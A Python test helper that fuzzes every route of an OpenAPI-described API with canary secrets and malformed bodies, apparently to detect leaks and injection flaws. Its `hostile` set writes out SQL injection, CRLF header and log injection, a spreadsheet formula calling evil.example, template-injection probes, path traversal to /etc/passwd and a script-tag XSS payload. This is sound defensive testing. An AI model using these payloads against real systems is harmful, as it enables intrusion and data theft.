"""Requests to every route that carry what must not be repeated, in every place that takes a value, good and bad."""

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import orjson

JSON, FORM = "application/json", "application/x-www-form-urlencoded"
FORGED = "forged"
FACTORS = "1299709*15485863"
CALCULATED = str(1_299_709 * 15_485_863)
"""What a template would have made of its text; so long that no position and no moment happens to hold it."""

METHODS_WITH_BODY = {"POST", "PUT", "PATCH"}


@dataclass(frozen=True, slots=True)
class Canaries:
    """One of each kind, unmistakable; `mark` is in all of them."""

    mark: str = field(default_factory=lambda: f"canary{uuid4().hex[:12]}")

    @property
    def values(self) -> Mapping[str, str]:
        """By kind, in the form in which each is sent."""
        return {
            "password": f"{self.mark}-swims-in-the-lake",
            "token": f"eyJhbGciOiJFUzI1NiJ9.{self.mark}.{self.mark}",
            "refresh token": f"tlr_{self.mark}",
            "otp": f"{self.mark}-otp",
            "e-mail": f"{self.mark}@example.com",
            "name": f"{self.mark.capitalize()} Quetzalcoatl",
            "recovery code": f"{self.mark.upper()}-ABCD-EFGH",
        }

    @property
    def hostile(self) -> Mapping[str, str]:
        """The same, as what would be code elsewhere."""
        return {
            "SQL": f"{self.mark}'; SELECT pg_sleep(30); --",
            "another line of a log": f'{self.mark}\r\n{{"event": "{FORGED}", "level": "info"}}',
            "another header": f"{self.mark}\r\nSet-Cookie: {FORGED}=1",
            "formula of a spreadsheet": f'=HYPERLINK("http://evil.example/{self.mark}")',
            "template": f"{self.mark}{{{{{FACTORS}}}}}${{{FACTORS}}}<%= {FACTORS} %>{{0.__class__}}%n",
            "path": f"../../../../../../etc/passwd/{self.mark}",
            "script": f"<script>alert('{self.mark}')</script>",
        }


@dataclass(frozen=True, slots=True)
class Attempt:
    """One request; `path` is complete, `content` are the bytes of the body."""

    route: str
    method: str
    path: str
    content: bytes = b""
    headers: Mapping[str, str] = field(default_factory=dict)


def attempts(document: Mapping[str, Any], values: Sequence[str]) -> Iterator[Attempt]:
    """Every operation of a document, with values in path, query, headers and body, well-formed and not."""
    for template, operations in document["paths"].items():
        for method, operation in operations.items():
            yield from _of_operation(document, template, method.upper(), operation, values)


def _of_operation(
    document: Mapping[str, Any], template: str, method: str, operation: Mapping[str, Any], values: Sequence[str]
) -> Iterator[Attempt]:
    route = f"{method} {template}"
    parameters = [each for each in operation.get("parameters", []) if "name" in each]
    named = {each["name"]: str(uuid4()) for each in parameters if each["in"] == "path"} | {"name": "resources"}
    path = template.format_map({**named, "position": 1, "role": "auditor", "action": "pause"})
    for value in values:
        yield Attempt(route, method, template.format_map({name: quote(value, safe="") for name in (*named, "action")}))
        for name in [*(each["name"] for each in parameters if each["in"] == "query"), "unknown"]:
            yield Attempt(route, method, f"{path}?{name}={quote(value)}")
        if value.isprintable():
            yield Attempt(route, method, path, headers={"Authorization": f"Bearer {value}"})
    for header in ("Idempotency-Key", "If-Match", "Consistency-Token", "If-None-Match", "Prefer", "Cookie"):
        yield Attempt(route, method, path, headers={header: values[0]})
    if method in METHODS_WITH_BODY:
        for content, media_type in _bodies(document, operation, values):
            yield Attempt(route, method, path, content, {"Content-Type": media_type})


def _bodies(
    document: Mapping[str, Any], operation: Mapping[str, Any], values: Sequence[str]
) -> Iterator[tuple[bytes, str]]:
    """What the document shows with a canary in one place after the other; besides, what can be read as nothing."""
    shown = operation.get("requestBody", {}).get("content", {JSON: {}})
    for media_type, media in shown.items():
        for value in values:
            for body in _spoiled(document, media, value):
                yield _written(body, media_type), media_type
            for broken in (f'{{"a": "{value}"', f'"{value}"', f'["{value}"]', value, f'{{"a": {value}}}'):
                yield broken.encode(), media_type
            yield value.encode(), "text/plain"


def _spoiled(document: Mapping[str, Any], media: Mapping[str, Any], value: str) -> Iterator[dict[str, Any]]:
    """Examples and members of the schema, each member once with the canary, and one member that nobody knows."""
    schema = document["components"]["schemas"].get(media.get("schema", {}).get("$ref", "").rpartition("/")[2], {})
    example: dict[str, Any] = (schema.get("examples") or [{}])[0]
    for member in schema.get("properties", {}):
        yield {**example, member: value}
        yield {**example, member: {"deep": [value]}}
    yield dict.fromkeys(schema.get("properties", {}), value)
    yield {**example, "unknown": value}


def _written(body: dict[str, Any], media_type: str) -> bytes:
    if media_type == FORM:
        return "&".join(f"{name}={quote(str(value))}" for name, value in body.items()).encode()
    return orjson.dumps(body)
